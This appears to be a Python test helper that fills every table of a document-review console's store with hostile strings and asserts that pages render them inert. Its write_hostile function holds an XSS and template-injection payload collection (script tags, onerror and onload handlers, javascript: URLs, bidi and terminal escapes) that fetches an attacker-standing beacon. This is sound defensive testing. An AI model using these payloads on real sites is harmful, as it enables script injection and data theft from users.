"""A store in which somebody wrote every text who wants to act on the page that shows it."""

import asyncio
import re
from collections.abc import AsyncIterator, Iterable, Iterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import urlsplit

import sqlalchemy as sa
from fastapi import APIRouter
from fastapi.routing import APIRoute

from assay.app import App
from assay.console.pages import PAGES
from assay.model.hashes import content_hash
from assay.model.storage import ColumnKind, Record, storage_of
from assay.store import tables as t
from assay.store.record_tables import table_of
from tests.console.conftest import WatchedPage

BEACON: Final = "http://127.0.0.1:{port}"
AT_MS: Final = 1_700_000_000_000
LONG_WORD: Final = "W" * 100_000
_LISTED: Final = """
abstract action actor agenda_status alarm alias answer answered_by approved_by article body changed
channel commit_id context decided_by denial detail doubt error error_message etag extractor
filter_reason found_at ground label last_error last_modified location matter_file matter_type
message motion mover name note notes number path person pause_reason published qualifiers question
reader reason recommendation released_by replaces seconder section skip_reason source_ref
status_reason tally text title unit url base_url venue version video act_name matched landing_url
stated_by method sign host
"""
WORDS: Final = frozenset(_LISTED.split())
"""Columns that hold words of documents, of sites, or of people."""
_NOT_WORDS: Final = frozenset(
    {
        ("releases", "version"),
        ("review_requests", "reason"),
        ("extraction_rejected", "reason"),
        ("literature_resolutions", "method"),
        ("civic_summaries", "method"),
        ("civic_items", "action"),
        ("civic_appearances", "action"),
        ("civic_meetings", "agenda_status"),
        ("routing_decisions", "denial"),
        ("conflicts", "ground"),
        ("conflict_resolutions", "ground"),
        ("candidate_facts", "unit"),
        ("rules", "unit"),
        ("conflicts", "unit"),
        ("candidate_facts", "extractor"),
    }
)
_PLAIN: Final[Mapping[str, str]] = {
    "doc_id": "do_hostile",
    "parent_doc_id": "do_hostile",
    "evidence_id": "ev_hostile2",
    "by_evidence_id": "ev_hostile2",
    "artifact_id": "ar_hostile2",
    "primary_text_artifact_id": "ar_hostile2",
    "source_slug": "hostile",
    "pack": "regulatory",
    "content_type": "text/html",
    "content_class": "HTML",
    "kind": "HTML_CLEANED",
    "concept": "pdv.rate",
    "tier": "T2",
    "value_type": "text",
    "applies_when": '{"all":[]}',
    "state": "OPEN",
    "status": "PENDING_REVIEW",
    "frequency": "DAILY",
    "strategy": "RSS",
    "subject_kind": "rule",
    "decision": "APPROVE",
    "stage": "scout",
    "queue": "scout",
    "outcome": "done",
    "error_class": "content",
    "error_code": "content_broken",
    "day": "2026-01-01",
    "effective_from": "2020-01-01",
    "starts": "2026-01-05T18:00",
    "starts_utc": "2026-01-05T17:00:00Z",
    "timezone": "Europe/Zagreb",
    "language": "hr",
    "doc_type": "LEGISLATION",
    "tag": "run.opened",
}
_BY_TABLE: Final[Mapping[tuple[str, str], str]] = {
    ("ingest_candidates", "state"): "blocked",
    ("ingest_candidate_events", "from_state"): "ready",
    ("ingest_candidate_events", "to_state"): "blocked",
    ("routing_decisions", "decision"): "BLOCKED",
    ("routing_decisions", "denial"): "NO_PACK",
    ("review_requests", "reason"): "LOW_CONFIDENCE",
    ("review_requests", "subject"): "rule_id_x",
    ("releases", "state"): "PUBLISHED",
    ("releases", "version"): "1.0.0",
    ("conflicts", "kind"): "VALUE",
    ("runs", "state"): "closed",
    ("jobs", "state"): "dead",
    ("workers", "state"): "stopped",
    ("agent_runs", "outcome"): "SUCCESS",
    ("watches", "digest"): "daily",
    ("notices", "kind"): "DOCUMENT_CHANGED",
    ("deliveries", "state"): "DUE",
    ("rule_edges", "kind"): "AMENDS",
    ("rule_edges", "from_rule"): "rule_id_x",
    ("rule_edges", "to_rule"): "rule_id_x",
    ("civic_meetings", "status"): "",
    ("civic_meetings", "agenda_status"): "",
    ("civic_syncs", "status"): "done",
    ("civic_summaries", "kind"): "item",
    ("civic_votes", "vote"): "yes",
    ("civic_papers", "kind"): "agenda",
    ("literature_lists", "kind"): "reading_list",
    ("literature_references", "kind"): "item",
    ("literature_resolutions", "status"): "found",
    ("candidate_facts", "unit"): "",
    ("rules", "unit"): "",
    ("conflicts", "unit"): "",
}


def write_hostile(beacon: str, tag: str) -> str:
    """Words that would act if a page let them; `tag` tells which column they came from."""
    to = f"{beacon}/{tag}"
    act = f"window.__ran='{tag}';fetch('{to}')"
    return (
        f"{tag}\"'></td></p></title></textarea></script><script>{act}</script>"
        f'<script src="{to}/s.js"></script><img src="{to}/i.png" onerror="{act}">'
        f'<svg onload="{act}"><use href="{to}/u.svg#a"/></svg><style>@import "{to}/c.css";'
        f'body{{background:url({to}/b.png)}}</style><link rel="stylesheet" href="{to}/l.css">'
        f'<meta http-equiv="refresh" content="0;url={to}/m"><iframe src="{to}/f"></iframe>'
        f'<a href="javascript:{act}" autofocus onfocus="{act}">a</a><base href="{to}/">'
        f'<form action="{to}"><button formaction="javascript:{act}">b</button></form>'
        f'<object data="data:text/html,<script>{act}</script>"></object>'
        "{{7*7}} ${7*7} {% raw %} {{ ''.__class__ }} "
        "\u202egnp.exe\u202c \u2066x\u2069 \u2028\u2029 \x1b]0;owned\x07\x1b[31m \x9b2J \x08\r"
    )


@dataclass
class Beacon:
    """A site of the attacker's, on this machine; nothing may ever ask it for anything."""

    url: str = ""
    heard: list[str] = field(default_factory=list)


@asynccontextmanager
async def listening_beacon() -> AsyncIterator[Beacon]:
    """The beacon, listening within the block."""
    beacon = Beacon()

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        beacon.heard.append((await reader.readline()).decode(errors="replace"))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    beacon.url = BEACON.format(port=server.sockets[0].getsockname()[1])
    try:
        yield beacon
    finally:
        server.close()


@dataclass(frozen=True)
class HostileStore:
    """What is in the store."""

    doc_id: str
    evidence_ids: tuple[str, str]
    text: str
    """Of the second version; its quote begins after the first 40 characters."""
    quote: tuple[int, int]


def seed_hostile(app: App, beacon: str) -> HostileStore:
    """A row in every table, with words that want to act wherever words can be."""
    text = (
        f"Article 1 {'x' * 29}\n"
        + write_hostile(beacon, "text")
        + f"\n# {write_hostile(beacon, 'heading')}\n{LONG_WORD}\n"
    )
    earlier = text.replace("Article 1", "Article 2").replace("W" * 50_000, "V" * 50_000)
    quote = (40, text.index("\n# "))
    page = f"<!doctype html><html><body>{write_hostile(beacon, 'upload')}</body></html>"
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{beacon}/svg\')"></svg>'
    for blob in (text, earlier, page, drawing):
        app.blobs.put(blob.encode())
    with app.engine.begin() as connection:
        for record in app.records:
            table = table_of(record)
            row = dict(_fill(record, beacon))
            for own in _vary(table.name, row, text, earlier, page, drawing, quote):
                connection.execute(sa.insert(table).values(**own))
        for table in (t.run, t.job, t.event):
            connection.execute(sa.insert(table).values(**dict(_fill_table(table, beacon))))
    return HostileStore("do_hostile", ("ev_hostile1", "ev_hostile2"), text, quote)


def _vary(
    table: str,
    row: dict[str, Any],
    text: str,
    earlier: str,
    page: str,
    drawing: str,
    quote: tuple[int, int],
) -> Iterator[dict[str, Any]]:
    """The rows of a table: two versions of the document, and quotes that are in its text."""
    first = {"evidence_id": "ev_hostile1", "artifact_id": "ar_hostile1"}
    if table == "evidence":
        yield row | {"content_hash": content_hash(page.encode()), "fetched_ms": AT_MS + 1}
        yield row | {
            "evidence_id": "ev_hostile1",
            "url": row["url"] + "1",
            "content_hash": content_hash(drawing.encode()),
            "primary_text_artifact_id": "ar_hostile1",
        }
    elif table == "evidence_artifacts":
        yield row | {"content_hash": content_hash(text.encode()), "length": len(text)}
        yield row | first | {"content_hash": content_hash(earlier.encode()), "length": len(earlier)}
    elif table in ("candidate_facts", "source_pointers", "fact_ends", "civic_motions"):
        yield row | {"quote": text[slice(*quote)], "start": quote[0], "end": quote[1]}
    elif table == "documents":
        yield row | {"parent_doc_id": None}
        yield row | {"doc_id": "do_child", "parent_doc_id": "do_hostile", "title": LONG_WORD}
    else:
        yield row


def _fill(record: type[Record], beacon: str) -> Iterator[tuple[str, Any]]:
    storage = storage_of(record)
    for entry in storage.fields:
        known = record.model_fields.get(entry.name)
        default = known.get_default(call_default_factory=True) if known else None
        if entry.kind is ColumnKind.JSON:
            yield entry.name, _fill_json(entry.name, default, beacon)
        elif entry.kind is ColumnKind.TEXT:
            yield entry.name, _fill_text(storage.table, entry.name, beacon)
        elif entry.kind is ColumnKind.FLAG:
            yield entry.name, True
        elif entry.kind is ColumnKind.REAL:
            yield entry.name, 0.5
        else:
            yield entry.name, AT_MS if entry.name.endswith("_ms") else 1


def _fill_table(table: sa.Table, beacon: str) -> Iterator[tuple[str, Any]]:
    for column in table.columns:
        if isinstance(column.type, sa.JSON):
            yield column.name, {"words": write_hostile(beacon, f"{table.name}.{column.name}")}
        elif isinstance(column.type, sa.Text):
            yield column.name, _fill_text(table.name, column.name, beacon)
        else:
            yield column.name, AT_MS if column.name.endswith("_ms") else 1


def _fill_text(table: str, column: str, beacon: str) -> str:
    if (table, column) in _BY_TABLE:
        return _BY_TABLE[table, column]
    if column in WORDS and (table, column) not in _NOT_WORDS:
        return write_hostile(beacon, f"{table}.{column}")
    if column == "value":
        return write_hostile(beacon, f"{table}.value")
    if column.endswith("_hash") or column == "hash":
        return "0" * 64
    return _PLAIN.get(column, f"{column}_x")


def _fill_json(column: str, default: Any, beacon: str) -> Any:
    words = write_hostile(beacon, column)
    if column in ("words", "authors", "sponsors", "topics", "sentences", "flags", "matched"):
        return [words]
    if isinstance(default, list):
        return default
    return {"words": words} if column in ("body", "payload", "options", "proposal") else {}


_LEADING_ON: Final = (
    "/login", "/auth/start", "/auth/callback", "/review/next", "/review/undo", "/releases/new",
)  # fmt: skip
"""What leads elsewhere at once, shows nothing without parameters, or needs stored texts that the
hostile store does not have."""


def list_open_pages() -> list[str]:
    """Every page of the console whose address has no variable."""
    routers: Iterable[APIRouter] = (page.router for page in PAGES)
    return sorted(
        {
            route.path
            for router in routers
            for route in router.routes
            if isinstance(route, APIRoute)
            and "GET" in (route.methods or ())
            and "{" not in route.path
            # A stream of events never ends.
            and route.path.rsplit("/", 1)[-1] not in ("live", "stream", "events")
            and route.path not in _LEADING_ON
        }
    )


_FOREIGN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
_LOADING = ("src", "href", "action", "formaction", "data", "poster", "srcset", "xlink:href")


class MarkupCheck(HTMLParser):
    """Finds everything in a page that could act, or load something from elsewhere."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        if control := _FOREIGN.search(page):
            at = max(0, control.start() - 60)
            self.found.append(f"a control character: {page[at : control.end() + 20]!r}")
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "style", "base", "frame", "applet"):
            self.found.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append("a script of a stranger's")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("<meta http-equiv>")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "autofocus"):
                self.found.append(f"{name} in <{tag}>")
            if name in _LOADING and not _may_lead_there(tag, value, given):
                self.found.append(f"{name}={value[:80]!r} in <{tag}>")


def _may_lead_there(tag: str, value: str, given: Mapping[str, str]) -> bool:
    if value.startswith(("/", "#", "?")) and not value.startswith("//"):
        return True
    # A link that a person may follow to the original, and that says nothing about this page.
    is_web = urlsplit(value).scheme in ("http", "https")
    return tag == "a" and is_web and {"noreferrer", "noopener"} <= set(given.get("rel", "").split())


async def visit_inert(watched: WatchedPage, own: str, path: str) -> None:
    """Open a page in the browser, and require that nothing on it has acted."""
    watched.complaints.clear()
    watched.requested.clear()
    dialogs: list[str] = []
    watched.page.once("dialog", lambda dialog: dialogs.append(dialog.message))
    answer = await watched.page.goto(own + path)
    assert answer is not None and answer.status < 400, (path, answer and answer.status)
    await watched.page.wait_for_load_state("load")
    assert await watched.page.evaluate("window.__ran === undefined"), path
    assert watched.page.url.startswith(own), path
    assert watched.complaints == [], (path, watched.complaints)
    assert dialogs == [], (path, dialogs)
    elsewhere = [address for address in watched.requested if not address.startswith(own)]
    assert elsewhere == [], (path, elsewhere)
    strange = await watched.page.evaluate(
        "[...document.querySelectorAll('script')].filter((s) => !s.src.startsWith(location.origin"
        " + '/static/')).length + document.querySelectorAll('iframe, object, base, style').length"
    )
    assert strange == 0, path
